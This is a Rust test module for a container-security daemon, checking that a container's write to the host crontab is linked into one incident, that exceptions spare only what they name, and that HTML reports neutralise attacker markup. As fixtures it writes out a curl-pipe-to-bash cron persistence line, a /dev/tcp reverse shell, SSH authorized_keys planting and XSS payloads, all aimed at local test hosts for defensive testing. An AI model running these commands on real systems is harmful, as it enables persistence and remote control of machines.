//! What is made of findings: the case as one incident with its report, and exceptions by their effect.

use crate::container::{Container, Group, end_with_us, wait};
use crate::daemon::{ALERT_WAIT, Daemon, Pins, Settings, is_alert, outcome, program};
use crate::faults::{attack_works, attack_works_at_last};
use crate::lab::Peer;
use crate::{pace, shared};
use anyhow::{Context, Result, ensure};
use serde_json::Value;
use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// A browser that needs no display.
pub const BROWSER: &str = "chromium";

/// Runs the program on the alert file; its exit status and what it says.
fn ask(arguments: &[&str], log: &Path) -> Result<String> {
    let output = Command::new(program()?).args(arguments).arg("--from").arg(log).output()?;
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    ensure!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    Ok(said)
}

fn id(alert: &Value) -> Result<&str> {
    alert["bulkhead"]["incident"]["id"].as_str().context("no incident")
}

/// What a container writes to the host's crontab, and what the host's cron then runs, is one incident: by the line, and
/// the report tells it from end to end.
pub fn container_to_cron_child_is_one_incident() -> Result<()> {
    let host = tempfile::tempdir()?;
    fs::create_dir_all(host.path().join("etc"))?;
    let events = host.path().join("events.jsonl");
    let pins = Pins { root: PathBuf::new(), on_exit: "keep", events: events.clone(), socket: None };
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings { host: true, pins: Some(pins), ..Settings::mode("monitor") })?;
    let container = Container::start_with(&group, Some(host.path()))?;
    let peer = Peer::web(TcpListener::bind("127.0.0.1:0")?, "true\n")?;
    let command = format!("curl -s http://127.0.0.1:{}/logo3.jpg | bash -s", peer.port);
    container.run(&format!(
        ": '<script>alert(1)</script>'; cat /etc/hostname; echo '* * * * * root {command}' >> /mnt/etc/crontab"
    ))?;
    let escape = daemon.await_alert("escape", container.id())?;
    // A later act of the same kind in another container has nothing to do with it.
    let other = Container::start(&group)?;
    ensure!(attack_works_at_last(&other)?, "monitor mode touched it");
    let elsewhere = daemon.await_alert("reverse_shell", other.id())?;

    let cron = Command::new("/bin/sh").args(["-c", &command]).stdin(Stdio::null()).stdout(Stdio::null()).spawn()?;
    wait(cron, pace::wait(Duration::from_secs(10)))?;
    let on_host = daemon.await_row("download_exec of the host", ALERT_WAIT, |row| {
        is_alert(row, "download_exec", "host") && row.to_string().contains(&command)
    })?;
    ensure!(id(&on_host)? == id(&escape)?, "two incidents: {} {}", on_host["bulkhead"]["incident"], escape["bulkhead"]);
    ensure!(id(&elsewhere)? != id(&escape)?, "a reverse shell elsewhere is in it");
    reports(&daemon.file("out/alerts.jsonl"), &events, id(&escape)?, container.id())
}

fn reports(log: &Path, events: &Path, id: &str, container: &str) -> Result<()> {
    let stories = ask(&["incidents", "--json"], log)?;
    let stories: Vec<Value> = stories.lines().map(serde_json::from_str).collect::<Result<_, _>>()?;
    let has = |story: &Value, kind: &str| story["kinds"].as_array().is_some_and(|kinds| kinds.contains(&kind.into()));
    // Other containers of the machine are watched as well.
    let ours = |story: &Value| story["places"].to_string().contains(container.get(..12).unwrap_or(container));
    let escapes: Vec<&Value> = stories.iter().filter(|story| ours(story) && has(story, "escape")).collect();
    ensure!(escapes.len() == 1, "{} incidents with an escape", escapes.len());
    let story = escapes[0];
    ensure!(story["id"] == id && story["verdict"] == "observed", "{story}");
    for kind in ["persistence_cron", "download_exec"] {
        ensure!(has(story, kind), "no {kind}: {story}");
    }
    let because = story["linked_because"].to_string();
    ensure!(because.contains("is a line of") && because.contains("etc/crontab"), "{because}");
    let list = ask(&["incidents"], log)?;
    ensure!(list.contains(id) && list.contains("not stopped"), "{list}");

    let page = ask(&["report", id], log)?;
    for part in ["<svg", "process tree", "etc/crontab", "is a line of", "&lt;script&gt;alert(1)"] {
        ensure!(page.contains(part), "no {part:?} in the report");
    }
    ensure!(!page.contains("<script"), "the attacker's arguments are markup");
    let text = ask(&["report", id, "--format", "text", "--events", &events.display().to_string()], log)?;
    let started = text.lines().find_map(|line| {
        line.trim().strip_prefix("- at least ")?.strip_suffix(" programs were started by its processes")
    });
    let started: usize = started.context(text.clone())?.parse()?;
    ensure!(started >= 2, "curl and bash at least: {text}");
    ensure!(text.contains("files opened for writing: ") && text.contains("etc/crontab"), "{text}");
    Ok(())
}

/// In `protect` an administrator's shell over the network survives in the container that an exception names, is not
/// told, and is counted; elsewhere and without the exception it is killed. What an exception of programs does not cover
/// is killed by the daemon.
pub fn exception_spares_what_it_names() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("protect"))?;
    let (admin, other) = (Container::start(&group)?, Container::start(&group)?);
    let base = daemon.config(&Settings::mode("protect"));
    ensure!(!attack_works(&admin)?, "not protected without an exception");
    let alert = daemon.await_alert("reverse_shell", admin.id())?;
    ensure!(outcome(&alert) == "killed" && alert["bulkhead"]["enforced_by"] == "signal", "{alert}");
    let before = daemon.alerts("reverse_shell", admin.id()).len();

    let rule = |more: &str| {
        let reason = "reason = \"the desk's console\"";
        format!("{base}[[exception]]\nkinds = [\"reverse_shell\"]\ncontainer = \"{}\"\n{reason}\n{more}\n", admin.id())
    };
    reload(&daemon, &rule(""), 1)?;
    ensure!(attack_works_at_last(&admin)?, "the excepted shell was stopped");
    ensure!(!attack_works(&other)?, "the exception reached another container");
    daemon.await_alert("reverse_shell", other.id())?;
    ensure!(daemon.alerts("reverse_shell", admin.id()).len() == before, "it was told");
    ensure!(daemon.alerts("shell_connect", admin.id()).is_empty(), "it was told as something else");
    let status = daemon.status()?;
    ensure!(status["exceptions"][0]["silenced"].as_u64().is_some_and(|n| n >= 1), "{}", status["exceptions"]);

    // bash is what runs: the kernel leaves it to the daemon, and the daemon spares or kills.
    reload(&daemon, &rule("exe = \"*/bash\""), 2)?;
    ensure!(attack_works_at_last(&admin)?, "the excepted program was stopped");
    reload(&daemon, &rule("exe = \"*/zsh\""), 3)?;
    let peer = Peer::shell(admin.listen()?, "", pace::wait(Duration::from_secs(6)))?;
    let shell = admin.spawn(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
    let killed = daemon.await_row("kill by the daemon", ALERT_WAIT, |row| {
        is_alert(row, "reverse_shell", admin.id()) && row["bulkhead"]["enforced_by"] == "pidfd"
    });
    wait(shell, pace::wait(Duration::from_secs(10)))?;
    killed?;

    // An exception that is over protects nobody, and says so.
    reload(&daemon, &rule("expires = \"2020-01-01\""), 4)?;
    daemon.await_row("word of its end", ALERT_WAIT, |row| row["event"]["action"] == "exception_expired")?;
    ensure!(!attack_works(&admin)?, "an exception that is over still holds");
    // One that would leave the kernel's verdicts to chance is refused, and the old file stays.
    daemon.reload(&format!("{base}[[exception]]\nkinds = [\"reverse_shell\"]\nexe = \"*/bash\"\nreason = \"r\"\n"))?;
    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
    while !daemon.log().contains("exception[0].kinds: `reverse_shell` is stopped in the kernel") {
        ensure!(Instant::now() < deadline, "{}", daemon.log());
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

fn reload(daemon: &Daemon, text: &str, count: usize) -> Result<()> {
    daemon.reload(text)?;
    let deadline = Instant::now() + pace::wait(Duration::from_secs(5));
    while daemon.rows().iter().filter(|row| row["event"]["action"] == "reloaded").count() < count {
        ensure!(Instant::now() < deadline, "not reloaded:\n{}", daemon.log());
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// `explain` prints an exception that, pasted, silences the finding; with `output.excepted` it is still a row.
pub fn explained_exception_silences() -> Result<()> {
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
    let stage = Container::start(&group)?;
    stage.run("mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/backup")?;
    let alert = daemon.await_alert("persistence_cron", stage.id())?;
    let log = daemon.file("out/alerts.jsonl");
    let said = ask(&["explain", alert["event"]["id"].as_str().context("no id")?], &log)?;
    ensure!(said.contains("it would have hidden this one and 0 more") && said.contains("opened for writing"), "{said}");
    let from = said.find("[[exception]]").context(said.clone())?;
    let table: String =
        said[from..].lines().take_while(|line| !line.is_empty()).map(|line| format!("{line}\n")).collect();
    let config = daemon.config(&Settings::mode("monitor")).replace("[output]\n", "[output]\nexcepted = true\n");
    reload(&daemon, &format!("{config}{table}"), 1)?;
    stage.run("echo '* * * * * root true' > /etc/cron.d/backup2")?;
    let row =
        daemon.await_row("the excepted row", ALERT_WAIT, |row| row["bulkhead"]["exception"]["reason"].is_string())?;
    ensure!(row["event"]["kind"] == "event" && row["event"]["action"] == "persistence_cron", "{row}");
    ensure!(daemon.alerts("persistence_cron", stage.id()).len() == 1, "it was told");
    Ok(())
}

/// A report in a browser: all of it is drawn, and nothing of the attacker's becomes part of the page.
pub fn report_is_drawn_by_a_browser() -> Result<()> {
    let watch = shared::watch("monitor")?;
    let container = Container::start(&watch.group)?;
    let evil = "</title></svg><script>document.title=1</script><img src=x onerror=document.title=2>";
    container.run(&format!(": '{evil}'; mkdir -p /root/.ssh; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"))?;
    let alert = watch.daemon.await_alert("persistence_ssh_key", container.id())?;
    let folder = tempfile::tempdir()?;
    let page = folder.path().join("report.html");
    let log = watch.daemon.file("out/alerts.jsonl");
    ask(&["report", id(&alert)?, "--output", &page.display().to_string()], &log)?;

    let browse = |what: &str| -> Result<String> {
        let said = folder.path().join("said");
        let profile = format!("--user-data-dir={}", folder.path().join("profile").display());
        let mut browser = Command::new(BROWSER);
        browser.args(["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1200,1400", &profile, what]);
        browser.arg(format!("file://{}", page.display()));
        browser.stdin(Stdio::null()).stdout(fs::File::create(&said)?).stderr(Stdio::null());
        wait(end_with_us(&mut browser).spawn().context(BROWSER)?, pace::wait(Duration::from_secs(60)))?;
        Ok(fs::read_to_string(&said)?)
    };
    let page = browse("--dump-dom")?;
    ensure!(page.contains("<title>Incident ") && page.matches("<svg").count() == 2, "{page}");
    ensure!(page.contains("onerror=document.title=2"), "the arguments are missing: {page}");
    for element in ["<script", "<img"] {
        ensure!(!page.contains(element), "the attacker's {element} is in the page: {page}");
    }
    let picture = folder.path().join("report.png");
    browse(&format!("--screenshot={}", picture.display()))?;
    let bytes = fs::read(&picture).context("no picture")?;
    ensure!(bytes.starts_with(b"\x89PNG") && bytes.len() > 20_000, "a picture of {} bytes", bytes.len());
    Ok(())
}
